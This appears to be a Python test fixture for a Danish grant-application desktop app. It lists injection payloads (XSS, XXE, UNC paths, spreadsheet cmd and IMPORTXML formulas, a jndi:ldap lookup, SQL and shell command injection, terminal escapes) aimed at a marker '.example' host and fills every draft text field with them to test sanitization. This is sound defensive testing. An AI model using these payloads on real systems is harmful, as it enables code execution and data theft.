"""Texts that try to do harm wherever they are shown, printed or written, and drafts with them in every field."""

from collections.abc import Callable, Iterator
from typing import Any, get_args

from botilbud_desktop.domain.application import Application, Approval, CapacityToday, Contacts, DailyRate, LegalBasis
from botilbud_desktop.domain.cost_plan import CostBasis, CostLine, CostPlan, Treatment, Unit
from botilbud_desktop.domain.model import Model, replace
from botilbud_desktop.domain.notes.records import Comment, CoverNote, InsertedFact, Milestone
from botilbud_desktop.domain.text.sanitizing import sanitized
from tests.faults.pieces_of_work import NOW, content

MARK = "botilbud7f3a"
"""Part of every path and address in these texts: if it turns up in a call, the program has followed one."""

PLANTED = f"/tmp/{MARK}-planted.png"
_SERVER = f"\\\\{MARK}.example\\share"

TEXTS: tuple[str, ...] = (
    f'<img src="{_SERVER}\\x.png">',
    f'<img src="//{MARK}.example/share/x.png">',
    f'<img src="file:///{PLANTED}">',
    f"<img src='{PLANTED}' onerror=alert(1)>",
    f'<img src="http://{MARK}.example/x.png"/>',
    f'<a href="https://{MARK}.example/">klik her</a>',
    f'<a href="file:///tmp/{MARK}">klik her</a>',
    f"<a name='x' href='javascript:alert(\"{MARK}\")'>klik</a>",
    f'<b>fed</b><i>kursiv<u>{MARK}<br/><table><tr><td background="{PLANTED}">x',
    f'<qt><font color="red" size=7>{MARK}</font></qt>',
    f'<body background="{_SERVER}\\bg.png"><p style="background-image:url({PLANTED})">x</p>',
    f'<style>@import url("http://{MARK}.example/x.css");</style>',
    f'<object data="{_SERVER}\\x.svg"></object><iframe src="//{MARK}.example">',
    f'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://{MARK}.example/x"/></svg>',
    f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///tmp/{MARK}">]><x>&e;</x>',
    f"<para>{MARK}</para><onDraw name='x'/><img src='{PLANTED}' width='1' height='1'/>",
    f"</para></b><![CDATA[{MARK}]]><!-- {MARK} -->",
    f"&lt;b&gt; &amp;amp; &#60;img src={PLANTED}&#62; &nbsp;&copy",
    f"{_SERVER}\\kladde.botilbud",
    f"//{MARK}.example/share/kladde.botilbud",
    f"file:///tmp/{MARK}/x",
    f"https://{MARK}.example/?q=1&r=2#x",
    f"mailto:{MARK}@example.org?body=x",
    f"../../../../tmp/{MARK}/../x",
    f"C:\\Windows\\{MARK}.exe",
    f"~/{MARK} $HOME/{MARK} %USERPROFILE%\\{MARK}",
    f"=cmd|' /C calc {MARK}'!A0",
    f'=HYPERLINK("http://{MARK}.example","klik")',
    f'@SUM(1+1)*cmd|"/C {MARK}"!A0',
    f'+1-1 -2+3 \t=IMPORTXML("http://{MARK}.example")',
    f"[klik](https://{MARK}.example) ![x]({PLANTED}) <https://{MARK}.example>",
    f"# {MARK}\n* **fed** `kode` ~~væk~~ | a | b |\n---",
    f'{{\\rtf1{{\\field{{\\*\\fldinst INCLUDEPICTURE "{_SERVER}\\\\x"}}}}}}',
    f"{{{{ {MARK}.__class__ }}}} {{% include '{PLANTED}' %}} ${{jndi:ldap://{MARK}.example/x}}",
    f"%s %n %d %(name)s {{0.__class__}} {{}} %1 %2 &Gem _x {MARK}",
    f'\'; DROP TABLE version; -- "{MARK}" $(touch /tmp/{MARK}) `touch /tmp/{MARK}` | touch /tmp/{MARK} &',
    f"\x1b]8;;http://{MARK}.example\x07klik\x1b]8;;\x07\x1b[2J\x1b[31m {MARK} \x9b5n\x90",
    f"\u202egnp.{MARK}\u202c \u2066\u200f\u200e\u2069 \u061c{MARK}\ufeff\u200b\u00ad",
    f"nul\x00midt i\x0b\x0c\x1f\x7f\x85 {MARK}\u2028\u2029\r\n\r\u0000",
    f"halve \ud83d {MARK} \ude00 \udcff tegn",
    f"{MARK}" + "x" * 5_000,
    f"{MARK} " + "Z\u0351\u036b\u0343\u036a\u0302" * 40,
    f"{MARK} \U0001f468\u200d\U0001f469\u200d\U0001f467 \U000e0041 \ufffe \U0001f3f4\U000e0067\U000e0062",
    f"%PDF-1.7 /JavaScript (app.alert\\('{MARK}'\\)) >> endobj stream endstream (\\) \\( )",
)

NO_FREE_TEXT = frozenset(
    {
        "Application.id",
        "Approval.seal",
        "Application.round",
        "Applicant.municipality_code",
        "Project.id",
        "Project.loan",
        "Application.judged_contents",
        "Project.partners",
        "Project.share_for_others",
        "Approval.fingerprint",
    }
)
"""Text fields of a draft that do not accept free text."""


def everywhere(text: str) -> Application:
    """A draft with the text in every free-text field, as a file can contain it."""
    return mixed((text,))


def mixed(texts: tuple[str, ...], first: int = 0) -> Application:
    """A draft whose fields hold the texts in turn, starting at index `first`."""
    count = first

    def following() -> str:
        nonlocal count
        count += 1
        return sanitized(texts[(count - 1) % len(texts)])

    draft = content(1)
    projects = tuple(
        replace(
            project,
            name=following(),
            description=following(),
            coordination_note=following(),
            preservation_reason=following(),
            purpose=following(),
            target_group=following(),
            economy_note=following(),
            milestones=(Milestone(label=following(), when=following()),),
            capacity_today=(CapacityToday(legal_basis=LegalBasis.SEL_107, area=following(), count=3),),
            daily_rates=(
                DailyRate(label=following(), lowest=100, highest=200),
                DailyRate(label=following(), lowest=100, highest=200),
            ),
            cost_plan=CostPlan(
                basis=CostBasis(unit=Unit.PLACES, eligible=1, total=2),
                lines=(
                    CostLine(label=following(), amount=10, treatment=Treatment.SHARED),
                    CostLine(label=following(), amount=10, treatment=Treatment.DIRECT),
                ),
                round_to=1,
            ),
        )
        for project in draft.projects
    )
    return replace(
        draft,
        case_number=following(),
        document_number=following(),
        cover_note=CoverNote.model_validate(
            {"to": following(), "copy_to": following(), "from": following(), "text": following()}
        ),
        inserted_facts=(InsertedFact(content=1, text=following()),),
        comments=tuple(_comments(following)),
        description=following(),
        internal_notes=following(),
        contacts=Contacts(names=following(), phones=following(), emails=(following(), following())),
        approvals=(Approval(approved_at=NOW, approved_by=following(), fingerprint=f"sha256:{'0' * 64}"),),
        projects=projects,
    )


def _comments(following: Callable[[], str]) -> Iterator[Comment]:
    """Yields a comment at a field, and one at a field that there is not."""
    for number, field in enumerate(("description", following())):
        yield Comment(
            id=f"{number}{following()}", field=field, text=following(), author=following(), written_at=NOW, done=False
        )
    yield Comment(id=following(), field="case_number", text=following(), author=following(), written_at=NOW, done=True)


def text_fields(kind: type[Model] = Application) -> Iterator[str]:
    """`Class.field` for each field of a draft that holds text of any kind."""
    for name, field in kind.model_fields.items():
        kinds = list(_within(field.annotation))
        if str in kinds:
            yield f"{kind.__name__}.{field.alias or name}"
        for inner in kinds:
            if issubclass(inner, Model):
                yield from text_fields(inner)


def _within(hint: Any) -> Iterator[type]:
    if isinstance(hint, type) and not get_args(hint):
        yield hint
    for part in get_args(hint):
        yield from _within(part)
